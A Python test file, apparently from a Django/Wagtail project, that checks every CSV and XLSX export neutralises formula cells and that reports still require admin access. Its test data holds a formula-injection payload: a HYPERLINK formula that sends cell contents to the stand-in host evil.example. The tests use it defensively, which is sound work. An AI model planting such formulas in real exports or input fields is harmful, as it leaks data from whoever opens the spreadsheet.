"""Every CSV and XLSX file Storybridge offers neutralises text a spreadsheet would run as a formula
(issue 14, finding 7: "the narrative library's CSV/XLSX export does not neutralise formula
cells"): a narrative, an instrument, a cohort, a page or an editor named
`=HYPERLINK("https://evil.example/?"&A1,"x")` comes out of each export, through the real admin
views, as text starting with an apostrophe."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from core.spreadsheet import FORMULA_STARTS, NeutralisedExportMixin
from tests.assessments.factories_questionnaires import make_instrument
from tests.factories import CohortFactory, NarrativeFactory, UserFactory
from tests.reporting.factories_engagement import enrol, respond

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"name")'
MARK = "evil.example"

ADMIN_EXPORTS = {
    "narratives": "wagtailsnippets_narratives_narrative:list",
    "consent": "wagtailsnippets_narratives_consent:list",
    "due for review": "narratives_due_for_review",
    "instruments": "wagtailsnippets_assessments_instrument:list",
    "site history": "wagtailadmin_reports:site_history",
    "locked pages": "wagtailadmin_reports:locked_pages",
    "aging pages": "wagtailadmin_reports:aging_pages",
    "workflows": "wagtailadmin_reports:workflow",
    "workflow tasks": "wagtailadmin_reports:workflow_tasks",
}


@pytest.fixture
def world(make_module):
    editor = UserFactory(
        username="root", first_name=EVIL_NAME, last_name="", is_superuser=True, is_staff=True
    )
    narrative = NarrativeFactory(title=EVIL, narrator_pseudonym="-Sam", last_reviewed=None)
    log(instance=narrative, action="wagtail.edit", user=editor)
    narrative.save_revision(user=editor)
    narrative.get_workflow().start(narrative, editor)
    make_instrument(name=EVIL)
    page = make_module(title=EVIL)
    page.locked, page.locked_by, page.locked_at = True, editor, timezone.now()
    page.save()
    page.save_revision(user=editor).publish(user=editor)
    return {"editor": editor}


def cells_of(response, export_format):
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells):
    marked = [cell for cell in cells if isinstance(cell, str) and MARK in cell]
    assert marked, "the export should hold the named row"
    for cell in marked:
        assert cell.startswith("'="), cell
    runnable = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert runnable == []


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ADMIN_EXPORTS)
def test_every_admin_export_neutralises_formulas(client, world, name, export_format):
    client.force_login(world["editor"])
    response = client.get(reverse(ADMIN_EXPORTS[name]), {"export": export_format})
    assert_neutralised(cells_of(response, export_format))


WAGTAIL_REPORTS = [name for name, url in ADMIN_EXPORTS.items() if "wagtailadmin_" in url]


@pytest.mark.parametrize("results", [False, True])
@pytest.mark.parametrize("name", WAGTAIL_REPORTS)
def test_wagtails_reports_still_need_admin_access(client, world, name, results):
    """Their neutralised replacements (core/wagtail_reports.py) check admin access as Wagtail's
    own routes do: a learner is sent to the admin sign-in and downloads nothing."""
    client.force_login(UserFactory(username="learner"))
    url = reverse(ADMIN_EXPORTS[name] + ("_results" if results else ""))
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_questionnaire_export_neutralises_cohort_and_instrument_names(
    client, course, export_format
):
    educator = UserFactory(username="educator", groups=["Educators"])
    cohort = CohortFactory(course=course, name=EVIL)
    cohort.educators.add(educator)
    instrument = make_instrument(name=EVIL_NAME)
    for enrolment in enrol(course, cohort, 5, "alpha"):
        respond(enrolment, instrument, "pre", [4, 2, 3, 5])
    client.force_login(educator)
    url = reverse("engagement:export", args=[course.pk])
    response = client.get(url, {"instrument": instrument.pk, "format": export_format})
    cells = cells_of(response, export_format)
    assert "'" + EVIL_NAME in cells
    assert "'" + EVIL in cells
    assert_neutralised(cells)


def exporting_urls(patterns, prefix=""):
    """(path, view class) of every URL whose view is a Wagtail spreadsheet export with columns."""
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from exporting_urls(pattern.url_patterns, prefix + str(pattern.pattern))
            continue
        assert isinstance(pattern, URLPattern)
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        if initkwargs.get("list_export", view_class.list_export):
            # Any converter's sample value will do: only the route matters here.
            path = re.sub(r"<(?:\w+:)?\w+>", "1", prefix + str(pattern.pattern))
            yield "/" + path.lstrip("^").rstrip("$"), view_class


def test_every_exporting_admin_url_routes_its_cells_through_the_helper(db):
    """Any index or report view that offers an export, ours or Wagtail's, answers at its URL with
    a view that sends every cell through core.spreadsheet.neutralise: a new viewset with
    `list_export` and no NeutralisedExportMixin fails here."""
    found = list(exporting_urls(get_resolver().url_patterns))
    assert len(found) >= 2 * len(ADMIN_EXPORTS)
    missing = sorted(
        path
        for path, _ in found
        if not issubclass(getattr(resolve(path).func, "view_class", object), NeutralisedExportMixin)
    )
    assert missing == []


SPREADSHEET_WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter|\bodf\b")


def test_no_spreadsheet_is_written_outside_the_helper():
    """Our own CSV and XLSX writers are the ones in core/spreadsheet.py, which neutralise."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for app in (
        "core",
        "narratives",
        "courses",
        "assessments",
        "reporting",
        "tracking",
        "storybridge",
    ):
        for path in (root / app).rglob("*.py"):
            if path == root / "core" / "spreadsheet.py" or "migrations" in path.parts:
                continue
            if SPREADSHEET_WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
